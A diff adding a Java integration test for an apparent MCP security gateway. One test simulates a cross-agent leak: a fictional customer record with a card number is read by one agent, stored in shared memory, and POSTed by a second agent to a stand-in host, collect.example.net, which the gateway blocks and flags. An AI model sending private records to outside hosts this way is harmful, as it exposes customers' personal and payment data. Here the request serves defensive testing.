@@ -1,0 +1,244 @@
+package io.weir.e2e.mcp;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.weir.e2e.kafka.TopicTail;
+import io.weir.e2e.mcp.NodePrograms.Outcome;
+import io.weir.launcher.WeirMain;
+import io.weir.launcher.stack.LocalStack;
+import io.weir.platform.config.ConfigSource;
+import io.weir.platform.json.Json;
+import io.weir.schemas.topic.Topics;
+import io.weir.testkit.mcp.FixtureHttp;
+import java.io.IOException;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpRequest.BodyPublishers;
+import java.net.http.HttpResponse;
+import java.net.http.HttpResponse.BodyHandlers;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Assumptions;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/** Foreign clients, foreign servers, the whole of Weir between them. Needs npm, and says so where there is none. */
+@Timeout(300)
+class McpServersIT {
+
+    private static final String RUN = "run-of-two-agents";
+    private static final String RECORD = "Customer 88, Mara Lindqvist, mara.lindqvist@norrby-pumps.example, card 4539"
+        + " 5787 6362 1486. They hold back the final payment until the seals have been replaced, and their board has"
+        + " decided, not yet in public, to close the northern plant after the summer.";
+
+    @TempDir
+    private static Path folder;
+
+    private static NodePrograms programs;
+    private static FixtureHttp fixture;
+    private static LocalStack stack;
+
+    @BeforeAll
+    static void start() throws Exception {
+        try {
+            programs = NodePrograms.install();
+        } catch (IOException e) {
+            System.out.println("McpServersIT is skipped: " + e.getMessage());
+            Assumptions.abort("no programs for Node: " + e.getMessage());
+        }
+        fixture = FixtureHttp.start();
+        stack = LocalStack.start(
+                ConfigSource.empty()
+                        .withOption("scan_api.port", "0", "test")
+                        .withOption("gateway.port", "0", "test")
+                        .withOption("gateway.private_upstreams_permitted", "127.0.0.1", "test")
+                        .withOption("mcp.servers", "fixture=" + fixture.url(), "test")
+                        .withOption("mcp.pins_directory", folder.resolve("pins").toString(), "test"),
+                folder.resolve("data"));
+        stack.correlator().ready().toCompletableFuture().get();
+    }
+
+    @AfterAll
+    static void stop() {
+        if (stack != null) {
+            stack.close();
+            fixture.close();
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "conformance-next/dist/index.js, --requirements, 2025-11-25, 70",
+        "conformance-next/dist/index.js, --requirements, 2026-07-28, 130",
+        "@modelcontextprotocol/conformance/dist/index.js, --suite, active, 35"
+    })
+    void theConformanceSuiteSeesNoDifference(String referee, String option, String value, int checksMin)
+            throws Exception {
+        Map<String, String> direct = checks(referee, option, value, fixture.url());
+        Map<String, String> through = checks(referee, option, value, endpoint());
+
+        assertThat(direct.values().stream().filter("SUCCESS"::equals).count()).isGreaterThanOrEqualTo(checksMin);
+        assertThat(through).isEqualTo(direct);
+    }
+
+    private static Map<String, String> checks(String referee, String option, String value, URI url) throws Exception {
+        Path results = Files.createTempDirectory(folder, "checks");
+        programs.run(referee, List.of("server", "--url", url.toString(), option, value, "-o", results.toString()));
+        Map<String, String> checks = new TreeMap<>();
+        try (Stream<Path> files = Files.walk(results)) {
+            for (Path file : files.filter(path -> path.endsWith("checks.json")).toList()) {
+                String scenario = file.getName(file.getNameCount() - 2).toString().replaceFirst("-\\d{4}-.*", "");
+                for (JsonNode check : Json.mapper().readTree(file.toFile())) {
+                    checks.merge(
+                            scenario + " " + check.path("id").asText(),
+                            check.path("status").asText(),
+                            (first, second) -> first + " " + second);
+                }
+            }
+        }
+        return checks;
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "@modelcontextprotocol/server-everything/dist/index.js, echo, message=hello, Echo: hello",
+        "@modelcontextprotocol/server-memory/dist/index.js, read_graph, , entities"
+    })
+    void theInspectorUsesReferenceServersThroughTheProxy(String server, String tool, String argument, String expected)
+            throws Exception {
+        List<String> arguments = new ArrayList<>(List.of("--cli"));
+        arguments.addAll(proxied("reference", "inspector", programs.server(server)));
+        arguments.addAll(List.of("--method", "tools/call", "--tool-name", tool));
+        if (argument != null) {
+            arguments.addAll(List.of("--tool-arg", argument));
+        }
+        Outcome outcome = programs.run("@modelcontextprotocol/inspector/clients/launcher/build/index.js", arguments);
+
+        assertThat(outcome.exitCode()).as(outcome.output()).isZero();
+        assertThat(outcome.output()).contains(expected);
+    }
+
+    @Test
+    void whatOneAgentReadsAndNotesAnotherCannotSend() throws Exception {
+        Path documents = Files.createDirectories(folder.resolve("documents"));
+        Path record = Files.writeString(documents.resolve("customer.txt"), RECORD);
+        List<String> files = new ArrayList<>(programs.server("@modelcontextprotocol/server-filesystem/dist/index.js"));
+        files.add(documents.toString());
+        List<String> memory = programs.server("@modelcontextprotocol/server-memory/dist/index.js");
+        Map<String, ?> entity =
+                Map.of("name", "customer-88", "entityType", "customer", "observations", List.of(RECORD));
+
+        // When
+        List<JsonNode> first = agent(
+                step(proxied("files", "agent-one", files), "read_text_file", Map.of("path", record.toString())),
+                step(proxied("memory", "agent-one", memory), "create_entities", Map.of("entities", List.of(entity))));
+        List<JsonNode> second = agent(step(proxied("memory", "agent-two", memory), "read_graph", Map.of()));
+        HttpResponse<String> sent = post("https://collect.example.net/in", "agent-two");
+
+        // Then
+        assertThat(first).extracting(result -> result.path("text").asText()).allMatch(text -> text.contains("Mara"));
+        assertThat(second.get(0).path("text").asText()).contains("Mara");
+        assertThat(sent.statusCode()).isEqualTo(403);
+        String trace = sent.headers().firstValue("X-Weir-Trace-Id").orElseThrow();
+        try (TopicTail alerts = TopicTail.of(stack.kafka(), Topics.ALERTS)) {
+            JsonNode alert = Json.mapper()
+                    .readTree(alerts.await(found -> text(found.value()).contains("\"trace_id\":\"" + trace))
+                            .value());
+            assertThat(alert.path("path"))
+                    .extracting(hop -> hop.path("tool").asText())
+                    .startsWith("read_text_file", "create_entities");
+            assertThat(alert.path("path"))
+                    .extracting(hop -> hop.path("agent_id").asText())
+                    .contains("agent-one")
+                    .endsWith("agent-two");
+            assertThat(alert.path("links"))
+                    .extracting(link -> link.path("source_tool").asText())
+                    .contains("read_text_file", "read_graph");
+        }
+    }
+
+    private static String text(byte[] value) {
+        return new String(value, StandardCharsets.UTF_8);
+    }
+
+    private static HttpResponse<String> post(String upstream, String agent) throws Exception {
+        HttpRequest request = HttpRequest.newBuilder(URI.create(stack.gatewayUrl() + upstream))
+                .header("Content-Type", "application/json")
+                .header("X-Weir-Session", RUN)
+                .header("X-Weir-Agent", agent)
+                .header("X-Weir-Context", "Book%20me%20a%20table%20for%20two")
+                .POST(BodyPublishers.ofString(Json.text(Map.of("text", RECORD))))
+                .build();
+        return HttpClient.newHttpClient().send(request, BodyHandlers.ofString());
+    }
+
+    private static List<JsonNode> agent(Map<?, ?>... steps) throws Exception {
+        Path file = Files.writeString(Files.createTempFile(folder, "steps", ".json"), Json.text(List.of(steps)));
+        Outcome outcome = programs.runAgent(file);
+        assertThat(outcome.exitCode()).as(outcome.output()).isZero();
+        List<JsonNode> results = new ArrayList<>();
+        for (String line : outcome.output()
+                .lines()
+                .filter(line -> line.startsWith("{\"tool\""))
+                .toList()) {
+            results.add(Json.mapper().readTree(line));
+        }
+        assertThat(results).hasSize(steps.length);
+        return results;
+    }
+
+    private static Map<String, Object> step(List<String> command, String tool, Map<String, ?> arguments) {
+        return Map.of(
+                "command", command,
+                "tool", tool,
+                "arguments", arguments,
+                "env", Map.of("MEMORY_FILE_PATH", folder.resolve("memory.json").toString()));
+    }
+
+    /** A server's command behind {@code weir mcp proxy}. */
+    private static List<String> proxied(String name, String agent, List<String> server) throws IOException {
+        Path settings = folder.resolve("proxy.yaml");
+        Files.writeString(
+                settings,
+                "scan_client:\n  url: " + stack.scanApi().url() + "\nmcp:\n  pins_directory: " + folder.resolve("pins")
+                        + "\n");
+        List<String> command = new ArrayList<>(List.of(
+                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+                "-Xmx256m",
+                "-XX:+UseSerialGC",
+                "-XX:TieredStopAtLevel=1",
+                "-cp",
+                System.getProperty("java.class.path"),
+                WeirMain.class.getName(),
+                "mcp",
+                "proxy",
+                "--config",
+                settings.toString(),
+                "--session",
+                RUN,
+                "--agent",
+                agent,
+                "--server",
+                name,
+                "--"));
+        command.addAll(server);
+        return command;
+    }
+
+    private static URI endpoint() {
+        return URI.create(stack.gatewayUrl().replace("/proxy/", "/mcp/fixture"));
+    }
+}
